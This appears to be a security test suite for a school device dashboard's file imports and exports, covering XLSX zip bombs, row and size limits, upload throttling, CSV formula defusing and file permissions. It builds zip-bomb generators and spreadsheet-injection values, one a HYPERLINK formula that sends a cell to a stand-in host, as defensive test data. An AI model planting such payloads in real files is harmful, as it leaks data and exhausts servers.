/**
 * Files in and out of the dashboard, against a real stack: an XLSX bomb is refused before it is parsed and costs the
 * dashboard no memory; rows and columns are bounded; a sheet that gets past the checks but needs too much memory
 * kills only its worker; every CSV defuses formulas; exports are throttled per user; the data directory is private.
 */
import { readdirSync, statSync } from 'node:fs';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { startDashboard } from '../../dashboard/server/index.js';
import type { ExportJob, ImportJob } from '../../api/index.js';
import { seedSchool, startTestStack, type TestStack } from '../helpers/stack.js';
import { waitFor } from '../helpers/wait.js';
import { rowXml, xlsx } from '../helpers/zip.js';
import { ApiClient } from './client.js';
import { heldUpload } from './upload-helpers.js';

const PASSWORD = 'mật-khẩu-đủ-dài';
const MB = 1024 * 1024;
const HEADER = 'Mã thiết bị,Tên thiết bị,Loại thiết bị,Mã trường,Phòng';

/** One repeated row: how a bomb packs a thousand times. */
function* repeated(row: Buffer, times: number): Generator<Buffer> {
  yield rowXml(1, ['Mã thiết bị']);
  for (let i = 0; i < times; i++) yield row;
}

/**
 * Rows that pack only ~40 times (a unique start to every cell), with no <dimension>: nothing before parsing can tell
 * this sheet from a register, but parsing keeps ~30 MB of strings alive.
 */
function* heavy(rows: number, columns: number): Generator<Buffer> {
  yield rowXml(1, Array.from({ length: columns }, (_, c) => `Cột ${c + 1}`));
  for (let r = 2; r <= rows + 1; r++) yield rowXml(r, Array.from({ length: columns }, (_, c) => `${r}-${c}-${(r * 7919 + c * 104729).toString(36)}${'x'.repeat(2000)}`));
}

const mode = (p: string) => statSync(p).mode & 0o777;

/** Heap and buffers (an upload is held in a Buffer, outside the JS heap) of this process, where the dashboard runs. */
const memory = () => { const m = process.memoryUsage(); return m.heapUsed + m.arrayBuffers; };

describe('uploads, exports and files: bounded and private', () => {
  let s: TestStack;
  let admin: ApiClient;
  let other: ApiClient;

  const post = (name: string, data: Buffer, c = admin) => fetch(`${c.base}/api/imports?name=${encodeURIComponent(name)}`, {
    method: 'POST', headers: { cookie: c.cookie, origin: c.base, 'content-type': name.endsWith('.csv') ? 'text/csv' : 'application/octet-stream' }, body: new Uint8Array(data),
  });
  /** Uploads and waits for the job to leave 'planning'. */
  const upload = async (name: string, data: Buffer): Promise<ImportJob> => {
    const res = await post(name, data);
    expect(res.status).toBe(202);
    const { id } = (await res.json()) as ImportJob;
    return waitFor(`import ${name} read`, async () => {
      const j = await admin.get<ImportJob>(`/api/imports/${id}`);
      return j.status !== 'planning' ? j : undefined;
    }, 60_000);
  };

  beforeAll(async () => {
    s = await startTestStack({
      dashboard: startDashboard,
      overrides: {
        imports: { maxUploadBytes: 4 * MB, maxUncompressedBytes: 40 * MB, maxRows: 1000, maxColumns: 30, parseMemoryMb: 32, maxInFlight: 2 },
        dashboard: { exportsPerUserPerMin: 3 },
      },
    });
    const seeded = await seedSchool(s.registry);
    // Names as a pupil with a keyboard might type them into an import: each would run in a spreadsheet unless defused.
    await s.registry.addDevice({ kind: 'board', roomId: seeded.room.id, code: 'B-01', name: '=HYPERLINK("http://x.example/?"&A1)', issueSecret: false });
    await s.registry.addUser({ username: 'admin', password: PASSWORD, role: 'admin' });
    await s.registry.addUser({ username: 'admin2', password: PASSWORD, role: 'admin' });
    admin = new ApiClient(s.dashboard!.url);
    await admin.login('admin', PASSWORD);
    other = new ApiClient(s.dashboard!.url);
    await other.login('admin2', PASSWORD);
  });
  afterAll(async () => { await s?.close(); });

  it('refuses an XLSX bomb from its zip directory, before parsing, without the dashboard growing', async () => {
    // 60 MB of one row (more than the 40 MB allowed), and 8 MB of it that packs 1000 times (under the size, a bomb all the same).
    const row = rowXml(2, ['A'.repeat(60_000)]);
    const bomb = xlsx(repeated(row, 1000));
    const dense = xlsx(repeated(row, 140));
    expect(bomb.length).toBeLessThan(1 * MB);
    const before = process.memoryUsage();
    const big = await upload('bom.xlsx', bomb);
    const packed = await upload('bom-nen.xlsx', dense);
    const after = process.memoryUsage();
    expect(big.status).toBe('failed');
    expect(big.error).toMatchObject({ code: 'EDUFLEET_ERR_IMPORT_LIMIT' });
    expect(big.error!.message).toMatch(/unpacks to 57\.\d MB, more than the 40\.0 MB allowed \(imports\.maxUncompressedBytes\)/);
    expect(packed.error).toMatchObject({ code: 'EDUFLEET_ERR_IMPORT_LIMIT' });
    expect(packed.error!.message).toMatch(/'xl\/worksheets\/sheet1\.xml'.*unpacks to \d+ times its packed size/);
    // Parsed here, 60 MB of XML would cost hundreds of MB of heap; refused, the bombs cost what they weigh packed.
    const grewMb = (after.heapUsed - before.heapUsed) / MB;
    console.log(`XLSX bombs refused: heap ${(before.heapUsed / MB).toFixed(0)} → ${(after.heapUsed / MB).toFixed(0)} MB, rss ${(before.rss / MB).toFixed(0)} → ${(after.rss / MB).toFixed(0)} MB`);
    expect(grewMb).toBeLessThan(40);
    expect((after.rss - before.rss) / MB).toBeLessThan(100);
  });

  it('refuses a sheet whose dimension states more rows or columns than allowed, and a CSV past them, naming the line', async () => {
    const rows = await upload('nhieu-dong.xlsx', xlsx([rowXml(1, ['Mã thiết bị']), rowXml(2, ['A'])], { dimension: 'A1:C5001' }));
    expect(rows.error).toMatchObject({ code: 'EDUFLEET_ERR_IMPORT_LIMIT' });
    expect(rows.error!.message).toMatch(/5000 rows; at most 1000 .*imports\.maxRows/);
    const cols = await upload('nhieu-cot.xlsx', xlsx([rowXml(1, ['Mã thiết bị'])], { dimension: 'A1:AZ3' }));
    expect(cols.error!.message).toMatch(/52 columns; at most 30 .*imports\.maxColumns/);

    const longCsv = `${HEADER}\n${Array.from({ length: 1001 }, (_, i) => `T-${i},Bảng,Bảng tương tác,LC-THPT-CHUYEN,P.TM1`).join('\n')}\n`;
    const long = await upload('dai.csv', Buffer.from(longCsv));
    expect(long.error).toMatchObject({ code: 'EDUFLEET_ERR_IMPORT_LIMIT' });
    expect(long.error!.message).toMatch(/1001 rows; at most 1000 .*\(line 1002 is the first past it\)/);
    const wideCsv = `${HEADER}\nT-1,Bảng,Bảng tương tác,LC-THPT-CHUYEN,P.TM1\nT-2${',x'.repeat(40)}\n`;
    const wide = await upload('rong.csv', Buffer.from(wideCsv));
    expect(wide.error!.message).toMatch(/41 columns \(line 3\); at most 30/);
  });

  it('refuses an upload larger than imports.maxUploadBytes with 413', async () => {
    const res = await post('to.csv', Buffer.alloc(5 * MB, 'a'));
    expect(res.status).toBe(413);
  });

  it('stops a sheet that passes the checks but needs more than parseMemoryMb in its worker; the dashboard answers and imports the next file', async () => {
    const file = xlsx(heavy(500, 30));
    expect(file.length).toBeLessThan(4 * MB);
    const job = await upload('nang.xlsx', file);
    expect(job.status).toBe('failed');
    expect(job.error).toMatchObject({ code: 'EDUFLEET_ERR_IMPORT_MEMORY' });
    expect(job.error!.message).toMatch(/more than the 32 MB allowed \(imports\.parseMemoryMb\)/);
    expect((await fetch(`${admin.base}/healthz`)).status).toBe(200);
    const good = await upload('dung.csv', Buffer.from(`${HEADER}\nT-9,Bảng lớp 10A1,Bảng tương tác,LC-THPT-CHUYEN,P.TM1\n`));
    expect(good.status).toBe('planned');
    expect(good.plan!.counts).toMatchObject({ create: 1 });
  });

  it('admits one upload per user at a time: of 20 sent at once, one is accepted, 19 are refused with 429 before their body is kept, and the heap stays bounded', async () => {
    // 3.5 MB each, 70 MB in all: kept in memory, the dashboard would grow by that much.
    const file = Buffer.from(`${HEADER}\n${'T-1,Bảng,Bảng tương tác,LC-THPT-CHUYEN,P.TM1\n'.repeat(Math.floor((3.5 * MB) / 52))}`);
    expect(file.length).toBeLessThan(4 * MB);
    const before = memory();
    const uploads = Array.from({ length: 20 }, (_, i) => heldUpload(admin, `dong-loat-${i}.csv`, file));
    await waitFor('19 uploads refused', () => uploads.filter((u) => u.answered()).length === 19, 30_000);
    const during = memory();
    const refused = await Promise.all(uploads.filter((u) => u.answered()).map((u) => u.answer));
    for (const r of refused) {
      expect(r).toMatchObject({ status: 429, retryAfter: '5', body: { code: 'EDUFLEET_ERR_IMPORT_BUSY' } });
      expect(r.body.message).toMatch(/^your previous file is still being read; wait for its preview, then upload again/);
    }
    const accepted = uploads.find((u) => !u.answered())!;
    accepted.finish();
    const answer = await accepted.answer;
    expect(answer.status).toBe(202);
    console.log(`20 uploads of ${(file.length / MB).toFixed(1)} MB by one user: heap + buffers ${(before / MB).toFixed(0)} → ${(during / MB).toFixed(0)} MB`);
    expect((during - before) / MB).toBeLessThan(35);
    // Read (and refused: far too many rows for this test's limits), the slot is free again: the next upload is accepted.
    const job = await waitFor('the accepted upload read', async () => {
      const j = await admin.get<ImportJob>(`/api/imports/${answer.body.id}`);
      return j.status !== 'planning' ? j : undefined;
    }, 60_000);
    expect(job.status).toBe('failed');
    expect((await upload('sau.csv', Buffer.from(`${HEADER}\nT-8,Bảng,Bảng tương tác,LC-THPT-CHUYEN,P.TM1\n`))).status).toBe('planned');
  });

  it('bounds the uploads read at once over all users (imports.maxInFlight): one more is refused with 429 and Retry-After', async () => {
    await s.registry.addUser({ username: 'importer3', password: PASSWORD, role: 'admin' });
    const newcomer = new ApiClient(s.dashboard!.url);
    await newcomer.login('importer3', PASSWORD);
    const file = Buffer.from(`${HEADER}\nT-7,Bảng,Bảng tương tác,LC-THPT-CHUYEN,P.TM1\n`);
    /** Two held uploads of one user: once one is refused, the other is admitted, and stays in flight until finished. */
    const admitted = async (c: ApiClient) => {
      const pair = [heldUpload(c, 'mot.csv', file), heldUpload(c, 'hai.csv', file)];
      await waitFor('one of the two refused', () => pair.some((u) => u.answered()));
      expect((await pair.find((u) => u.answered())!.answer).status).toBe(429);
      return pair.find((u) => !u.answered())!;
    };
    const first = await admitted(admin);
    const second = await admitted(other);
    const third = await post('ba.csv', file, newcomer);
    expect(third.status).toBe(429);
    expect(third.headers.get('retry-after')).toBe('5');
    expect(await third.json()).toEqual({ code: 'EDUFLEET_ERR_IMPORT_BUSY', message: '2 files are being read already (imports.maxInFlight); try again in 5 s' });
    expect(first.answered() || second.answered()).toBe(false);
    first.finish();
    second.finish();
    expect((await first.answer).status).toBe(202);
    expect((await second.answer).status).toBe(202);
    const res = await waitFor('the third user admitted', async () => {
      const r = await post('ba.csv', file, newcomer);
      return r.status === 202 ? r : undefined;
    });
    expect(res.status).toBe(202);
  });

  it('defuses formulas in every CSV it writes: the register, the list of schools and the usage report', async () => {
    await s.registry.ensureSchool({ code: 'LC-TH-CONG', name: '@SUM(1+1)*cmd', level: 'tieu_hoc', districtId: (await s.registry.districts())[0]!.id, pupils: 10 });
    const register = await (await fetch(`${admin.base}/api/register.csv`, { headers: { cookie: admin.cookie } })).text();
    expect(register).toContain(`"'=HYPERLINK(""http://x.example/?""&A1)"`);
    expect(register).not.toMatch(/(^|,)"?=HYPERLINK/m);
    const places = await (await fetch(`${admin.base}/api/places.csv`, { headers: { cookie: admin.cookie } })).text();
    expect(places).toContain("'@SUM(1+1)*cmd");
    expect(places).not.toMatch(/(^|,)"?@SUM/m);
    const started = await admin.request('POST', '/api/usage/exports', { format: 'csv' });
    expect(started.status).toBe(202);
    const job = await waitFor('the usage CSV', async () => {
      const j = await admin.get<ExportJob>(`/api/usage/exports/${(started.body as ExportJob).id}`);
      return j.status === 'done' ? j : undefined;
    });
    const usage = await (await fetch(`${admin.base}/api/usage/exports/${job.id}/file`, { headers: { cookie: admin.cookie } })).text();
    for (const line of usage.split('\r\n').slice(1)) expect(line).not.toMatch(/(^|,)"?[=+\-@]/);
  });

  it('throttles exports per user with 429, a coded error and Retry-After; another user is not held back', async () => {
    for (let i = 0; i < 3; i++) expect((await other.request('POST', '/api/usage/exports', { format: 'csv' })).status).toBe(202);
    const refused = await other.request('POST', '/api/usage/exports', { format: 'csv' });
    expect(refused.status).toBe(429);
    expect(refused.body).toMatchObject({ code: 'EDUFLEET_ERR_EXPORT_RATE' });
    const retry = Number(refused.headers.get('retry-after'));
    expect(retry).toBeGreaterThanOrEqual(1);
    expect(retry).toBeLessThanOrEqual(60);
    for (let i = 0; i < 3; i++) expect((await other.request('GET', '/api/register.csv')).status).toBe(200);
    const register = await other.request('GET', '/api/register.csv');
    expect(register.status).toBe(429);
    expect(register.headers.get('retry-after')).toMatch(/^\d+$/);
    const newcomer = new ApiClient(s.dashboard!.url);
    await s.registry.addUser({ username: 'admin3', password: PASSWORD, role: 'admin' });
    await newcomer.login('admin3', PASSWORD);
    expect((await newcomer.request('POST', '/api/usage/exports', { format: 'csv' })).status).toBe(202);
  });

  it('keeps the data directory 0700 and its files 0600 after a start: registry, session secret, spool, managed InfluxDB', async () => {
    expect(mode(s.dir)).toBe(0o700);
    for (const f of readdirSync(s.dir).filter((n) => /^(registry|usage)\.sqlite(-wal|-shm)?$/.test(n))) expect(mode(path.join(s.dir, f)), f).toBe(0o600);
    expect(readdirSync(s.dir)).toContain('registry.sqlite');
    expect(mode(path.join(s.dir, 'session-secret'))).toBe(0o600);
    const spool = path.join(s.dir, 'spool');
    expect(mode(spool)).toBe(0o700);
    const segments = readdirSync(spool).filter((n) => n.startsWith('segment-'));
    expect(segments.length).toBeGreaterThan(0);
    for (const f of segments) expect(mode(path.join(spool, f)), f).toBe(0o600);
    expect(mode(path.join(s.dir, 'influxdb'))).toBe(0o700);
    expect(mode(path.join(s.dir, 'influxdb', 'influxdb.conf'))).toBe(0o600);
    expect(mode(path.join(s.dir, 'influxdb', 'influxd.log'))).toBe(0o600);
  });
});
